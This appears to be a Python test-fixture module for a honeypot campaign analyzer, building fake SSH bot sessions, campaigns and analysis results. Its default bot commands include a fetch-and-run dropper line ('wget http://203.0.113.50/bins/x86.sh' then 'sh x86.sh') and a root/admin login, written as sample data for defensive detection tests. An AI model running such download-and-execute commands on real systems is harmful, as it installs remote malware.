"""Builders for campaigns, sessions and stored intervals that any correct analyzer could produce."""

from __future__ import annotations

import uuid
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta

from coord_core.contracts.campaigns import AnalysisResult, Campaign, Evidence, RunInfo, Verdict
from coord_core.contracts.sessions import AttackSession, Download, LoginAttempt
from coord_core.contracts.window import DataWindow
from coord_core.intel.occurrence import CampaignOccurrence
from tests import factories

T0 = datetime(2025, 10, 24, 2, tzinfo=UTC)
HOUR = timedelta(hours=1)
DROPPER_SHA = "a" * 63 + "1"
DROPPER_URL = "http://203.0.113.50/bins/x86.sh"


def window(hour: int) -> DataWindow:
    return DataWindow(start=T0 + hour * HOUR, end=T0 + (hour + 1) * HOUR)


def token() -> str:
    """A per-test token so ids (and therefore MISP UUIDs) never collide between tests or runs."""
    return uuid.uuid4().hex[:10]


def bot_session(
    sid: str,
    ip: str,
    at: datetime,
    *,
    url: str = DROPPER_URL,
    sha: str | None = DROPPER_SHA,
    commands: Sequence[str] = ("cd /tmp", "wget http://203.0.113.50/bins/x86.sh", "sh x86.sh"),
    hassh: str | None = "ec7378c1a92f5a8dde7e8b7a1ddf33d1",
    failed: bool = False,
) -> AttackSession:
    """A bot of the dropper botnet: logs in, fetches the dropper (or fails to) and runs it."""
    return factories.attack_session(
        sid,
        ip,
        at,
        seconds=40,
        sensor="sensor-1",
        event_count=8,
        protocol="ssh",
        dst_port=22,
        hassh=hassh,
        logins=[LoginAttempt(username="root", password="admin", success=True)],
        commands=commands,
        downloads=[Download(url=url, shasum=None if failed else sha, failed=failed)],
    )


def campaign(
    cid: str,
    sessions: Sequence[AttackSession],
    *,
    confidence: float = 0.9,
    verdict: Verdict = Verdict.COORDINATED_CAMPAIGN,
    signature: Sequence[str] = ("sig-dropper",),
    summary: str = "4 source IPs share the dropper",
) -> Campaign:
    shared = Evidence(
        evidence_id=f"{cid}:shared",
        factor="shared_artifacts",
        score=1.0,
        statistic={"shared": [f"file_hash:{DROPPER_SHA}"], "p_value": 0.001},
        summary=summary,
    )
    return factories.campaign(
        cid, sessions, [shared], verdict=verdict, confidence=confidence, signature=signature
    )


def result(
    campaigns: Sequence[Campaign], sessions: Sequence[AttackSession], win: DataWindow
) -> AnalysisResult:
    run = RunInfo(
        input_fingerprint=f"fp-{win.start:%H}",
        parameters={},
        code_version="test",
        window_start=win.start,
        window_end=win.end,
        session_count=len(sessions),
    )
    members = {sid for c in campaigns for sid in c.session_ids}
    return AnalysisResult(
        run=run,
        campaigns=list(campaigns),
        independent_session_ids=[s.session_id for s in sessions if s.session_id not in members],
    )


def botnet(prefix: str, hour: int, ips: Sequence[str], **session_args: object) -> list[AttackSession]:
    start = window(hour).start + timedelta(minutes=5)
    return [
        bot_session(f"{prefix}-{hour}-{i}", ip, start + i * timedelta(minutes=3), **session_args)  # type: ignore[arg-type]
        for i, ip in enumerate(ips)
    ]


def occurrence(cid: str, hour: int, ips: Sequence[str], **campaign_args: object) -> CampaignOccurrence:
    sessions = botnet(cid, hour, ips)
    return CampaignOccurrence(window(hour), campaign(cid, sessions, **campaign_args), tuple(sessions))  # type: ignore[arg-type]


BOT_IPS = ["192.0.2.10", "198.51.100.20", "203.0.113.30", "2001:db8::40"]
